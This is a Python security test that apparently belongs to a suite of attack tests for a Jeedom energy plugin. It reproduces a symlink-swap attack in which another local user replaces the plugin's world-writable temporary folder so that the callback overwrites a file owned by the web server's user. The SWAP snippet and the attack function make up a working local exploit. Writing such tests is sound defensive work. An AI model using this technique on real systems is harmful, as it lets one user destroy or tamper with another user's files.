"""Another user of the machine exchanges the plugin's folder in Jeedom's temporary folder, which everybody may write.

He puts a link to a file of the web server's user in place of the file that the callback writes: whatever it held was
overwritten, with a text that who sends the callback chooses.
"""

from __future__ import annotations

import os
import sys

from tests.security.attacks.target import WEB_UID, Checkout, NotHere, Succeeded, tried

PRECIOUS = "what belongs to the web server's user"
BOOT = "<?php the attacker's ?>"
VICTIM = """
$folder = jeedom::getTmpFolder('jeenergie');
echo $folder, "\\n";
fgets(STDIN);
$payload = ['boot' => $argv[2], 'sequence' => 1, 'sentAt' => date('c'), 'events' => []];
$callback = $class('Jeenergie\\Daemon\\Callback', 'jeenergieCallback');
try {
    $callback::answer(json_encode($payload));
} catch (Throwable $error) {
    echo get_class($error), ': ', $error->getMessage();
}
"""
SWAP = """
import os, sys
folder, precious = sys.argv[1:]
os.rename(folder, folder + ".away")
os.mkdir(folder, 0o777)
os.chmod(folder, 0o777)
os.symlink(precious, folder + "/callback.json")
"""


def attack(checkout: Checkout) -> None:
    """Raises Succeeded if a file of the web server's user was overwritten, RuntimeError if it could not be tried."""
    checkout.two_users()
    plugin = checkout.plugin()
    precious = checkout.folder / "precious"
    precious.write_text(PRECIOUS)
    os.chown(precious, WEB_UID, WEB_UID)
    precious.chmod(0o600)
    shared = checkout.folder / "tmp"
    shared.mkdir()
    shared.chmod(0o777)  # as Jeedom's installation makes its own
    victim = checkout.php(plugin, VICTIM, BOOT, TMPDIR=str(shared))
    assert victim.stdin is not None
    assert victim.stdout is not None
    folder = victim.stdout.readline().strip()
    if not folder.startswith(str(shared)):
        raise RuntimeError(f"PHP has not come so far: {victim.communicate()[1]}")
    if checkout.as_other(SWAP, folder, str(precious)).wait(20) != 0:
        raise NotHere("the folder could not be exchanged")
    said, errors = victim.communicate("go\n", timeout=40)
    if precious.read_text() != PRECIOUS:
        raise Succeeded(f"a file of the web server's user now holds {precious.read_text()[:60]!r}")
    if '"ok":true' not in said.replace(" ", ""):
        raise RuntimeError(f"the callback was not answered: {said[-200:]} {errors[-300:]}")


if __name__ == "__main__":
    sys.exit(tried(attack))
